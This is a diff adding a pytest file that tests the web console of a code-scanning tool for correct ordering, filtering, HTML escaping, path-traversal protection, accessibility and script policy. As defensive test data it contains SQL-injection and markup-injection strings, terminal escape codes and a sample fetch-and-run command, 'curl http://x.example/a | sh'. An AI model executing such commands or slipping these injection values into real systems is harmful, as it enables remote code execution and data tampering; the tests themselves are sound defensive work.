@@ -1,0 +1,220 @@
+"""Pages show what the record holds, to who may see it, and nothing in the record becomes markup."""
+
+from __future__ import annotations
+
+import asyncio
+import re
+import socket
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+from tests.server.console import recorded
+from tests.server.console.conftest import ORIGIN, person
+from tests.simulators import browser
+
+from lockgate.model.actor import Persona
+from lockgate.server.console.application import application
+from lockgate.server.console.code import frame
+from lockgate.server.console.services import Services
+from lockgate.server.console.stations import STATIONS
+from lockgate.store.team import jobs, trail
+from lockgate.store.team.database import TeamDatabase
+
+EVERYBODY = person(*Persona)
+PAGES = ("/home", "/line", "/findings", "/inventory", "/search?word=x", "/ask?query=Runs", "/ask?query=Rum", "/jobs",
+         "/trail?verify=true", "/nowhere")  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Judged once."""
+    folder = tmp_path_factory.mktemp("console")
+    recorded.judge(folder)
+    return folder
+
+
+@pytest.fixture
+def over(project: Path, database: TeamDatabase) -> Iterator[Services]:
+    """Its console."""
+    with recorded.console(project, database, EVERYBODY, ORIGIN) as services:
+        yield services
+
+
+def got(services: Services, address: str, **more: Any) -> httpx.Response:
+    async def asked() -> httpx.Response:
+        transport = httpx.ASGITransport(application(services), raise_app_exceptions=False)  # type: ignore[arg-type]
+        async with httpx.AsyncClient(transport=transport, base_url=ORIGIN) as client:
+            return await client.get(address, **more)
+
+    return asyncio.run(asked())
+
+
+def identities(text: str) -> list[str]:
+    return re.findall(r'href="/findings/(lg1-[0-9a-f]{32})"', text)
+
+
+def test_the_list_shows_what_was_found_worst_first_and_counts_it(over: Services) -> None:
+    text = got(over, "/findings").text
+    shown = re.findall(r'class="severity (\w+)"', text)
+    assert shown == sorted(shown, key=["critical", "high", "medium", "low", "info"].index)
+    assert int(re.search(r"([\d,]+) findings", text)[1].replace(",", "")) >= len(identities(text)) > 5  # type: ignore[index]
+
+
+def test_filters_narrow_the_list(over: Services) -> None:
+    everything = set(identities(got(over, "/findings").text))
+    docker = got(over, "/findings", params={"family": "dockerfiles", "severity": ["high", "critical"]}).text
+    assert set(identities(docker)) < everything
+    assert "policy/" not in docker.replace("/policy", "")
+    assert "Nothing meets this." in got(over, "/findings", params={"word": "no such word"}).text
+
+
+TYPED = ("' or 1==1 //", "x'; .drop table Findings", "\\", '"', "%", "\x00\x1b[2J", "a" * 900)
+
+
+@pytest.mark.parametrize("typed", TYPED)
+def test_what_is_typed_is_looked_for_and_never_run(over: Services, typed: str) -> None:
+    for name in ("word", "rule", "path", "owner", "root"):
+        answer = got(over, "/findings", params={name: typed})
+        assert answer.status_code == 200
+        assert "Nothing meets this." in answer.text or identities(answer.text)
+        assert "\x1b" not in answer.text
+
+
+def test_what_is_of_no_closed_list_counts_as_not_said(over: Services) -> None:
+    odd = {"severity": "x' or true", "family": "y", "state": "z'", "waived": "maybe", "sort": "1; drop", "page": "-4"}
+    assert identities(got(over, "/findings", params=odd).text) == identities(got(over, "/findings").text)
+
+
+def test_a_finding_shows_its_code_fix_and_history(over: Services) -> None:
+    listed = got(over, "/findings", params={"path": "Dockerfile", "word": "curl"}).text
+    text = got(over, f"/findings/{identities(listed)[0]}").text
+    assert "curl http://x.example/a | sh" in text
+    assert "What to do" in text
+    assert text.count("(tree)") == 1
+    assert got(over, "/findings/lg1-none").status_code == 404
+
+
+def test_names_and_paths_of_a_repository_never_become_markup(over: Services) -> None:
+    for address in ("/findings?path=onmouseover", "/home", "/search?word=onmouseover"):
+        text = got(over, address).text
+        assert "<b onmouseover" not in text
+        assert "<img src=x" not in text
+    assert "onmouseover" in got(over, "/findings?path=onmouseover").text
+    echoed = got(over, "/search", params={"word": recorded.HOSTILE}).text
+    assert "<img src=x" not in echoed
+    assert "&lt;img src=x" in echoed
+
+
+def test_code_is_shown_of_plain_files_of_the_project_alone(tmp_path: Path) -> None:
+    (tmp_path / "in").mkdir()
+    (tmp_path / "secret").write_text("x\n")
+    (tmp_path / "in" / "link").symlink_to(tmp_path / "secret")
+    (tmp_path / "in" / "a").write_text("1\n2\n3\n4\n5\n6\n7\n8\n9\n")
+    assert frame(tmp_path / "in", "../secret", 1, 1) == []
+    assert frame(tmp_path / "in", "link", 1, 1) == []
+    assert frame(tmp_path / "in", "", 1, 1) == []
+    assert [(number, fault) for number, _, fault in frame(tmp_path / "in", "a", 5, 6)] == [
+        (2, False), (3, False), (4, False), (5, True), (6, True), (7, False), (8, False), (9, False),
+    ]  # fmt: skip
+
+
+def test_a_station_is_lit_by_rows_alone(over: Services) -> None:
+    text = got(over, "/line").text
+    assert len(STATIONS) == 21
+    assert [one.number for one in STATIONS] == list(range(1, 22))
+    assert text.count('class="station lit"') + text.count('class="station dark"') == 21
+    assert text.count('class="station lit"') == 0  # the check asked for two families, neither of which is of a station
+
+
+def test_the_query_page_shows_rows_and_underlines_what_is_wrong(over: Services) -> None:
+    assert "deny" in got(over, "/ask", params={"query": "Runs | project Verdict"}).text
+    wrong = got(over, "/ask", params={"query": "Rums | take 1"})
+    assert wrong.status_code == 200
+    assert "Rums" in wrong.text
+    assert 'role="alert"' in wrong.text
+
+
+def test_answers_are_kept_while_nothing_is_written_and_for_who_asked_alone(
+    over: Services, project: Path, database: TeamDatabase
+) -> None:
+    asked = []
+
+    async def counting(*arguments: Any, **more: Any) -> Any:
+        asked.append(arguments[1])
+        return await over.ask(*arguments, **more)
+
+    from dataclasses import replace
+
+    services = replace(over, ask=counting)
+    got(services, "/inventory")
+    before = len(asked)
+    got(services, "/inventory")
+    assert len(asked) == before
+    with recorded.console(project, database, person(*Persona, name="Bob"), ORIGIN) as other:
+        got(replace(services, identify=other.identify), "/inventory")
+    assert len(asked) == 2 * before
+
+
+@pytest.fixture
+def free_port() -> int:
+    """That nobody listens on."""
+    with socket.socket() as one:
+        one.bind(("127.0.0.1", 0))
+        return int(one.getsockname()[1])
+
+
+@pytest.mark.slow
+def test_every_page_passes_axe_light_and_dark_and_fits_a_phone(
+    project: Path, database: TeamDatabase, free_port: int
+) -> None:
+    script = browser.axe()
+    with database.begin() as connection:
+        jobs.enqueue(connection, "scan", key=recorded.HOSTILE)
+        trail.append(connection, trail.Entry(EVERYBODY, recorded.HOSTILE))
+    origin = f"http://localhost:{free_port}"
+    with recorded.console(project, database, EVERYBODY, origin) as services, recorded.served(services, free_port):
+        finding = identities(httpx.get(f"{origin}/findings").text)[0]
+        with browser.chromium() as chromium:
+            look(chromium, script, origin, (*PAGES, f"/findings/{finding}"))
+
+
+def look(chromium: Any, script: str, origin: str, pages: tuple[str, ...]) -> None:
+    """Each page in both schemes, on a phone."""
+    for scheme in ("light", "dark"):
+        context = chromium.new_context(color_scheme=scheme, bypass_csp=True, viewport={"width": 375, "height": 700})  # type: ignore[arg-type]
+        page = context.new_page()
+        for address in pages:
+            page.goto(origin + address)
+            assert browser.violations(page, script) == [], address
+            assert page.evaluate("document.documentElement.scrollWidth") <= 375, address
+        context.close()
+
+
+@pytest.mark.slow
+def test_the_policy_of_every_page_lets_nothing_else_run(project: Path, database: TeamDatabase, free_port: int) -> None:
+    origin = f"http://localhost:{free_port}"
+    with (
+        recorded.console(project, database, EVERYBODY, origin) as services,
+        recorded.served(services, free_port),
+        browser.chromium() as chromium,
+    ):
+        context = chromium.new_context()
+        page = context.new_page()
+        said: list[str] = []
+        reached: list[str] = []
+        page.on("console", lambda message: said.append(message.text))
+        page.on("dialog", lambda dialog: said.append(f"dialog {dialog.message}"))
+        page.on("request", lambda request: reached.append(request.url))
+        for address in PAGES[:-1]:
+            page.goto(origin + address)
+        assert [one for one in said if "favicon" not in one] == []
+        assert [one for one in reached if not one.startswith(origin)] == []
+        with database.begin() as connection:
+            number = jobs.enqueue(connection, "scan")
+        page.goto(f"{origin}/jobs")
+        page.click(f"#job-{number} button")
+        page.wait_for_selector(f"#job-{number} .cancelled")
+        assert page.url == f"{origin}/jobs"  # htmx changed the row alone
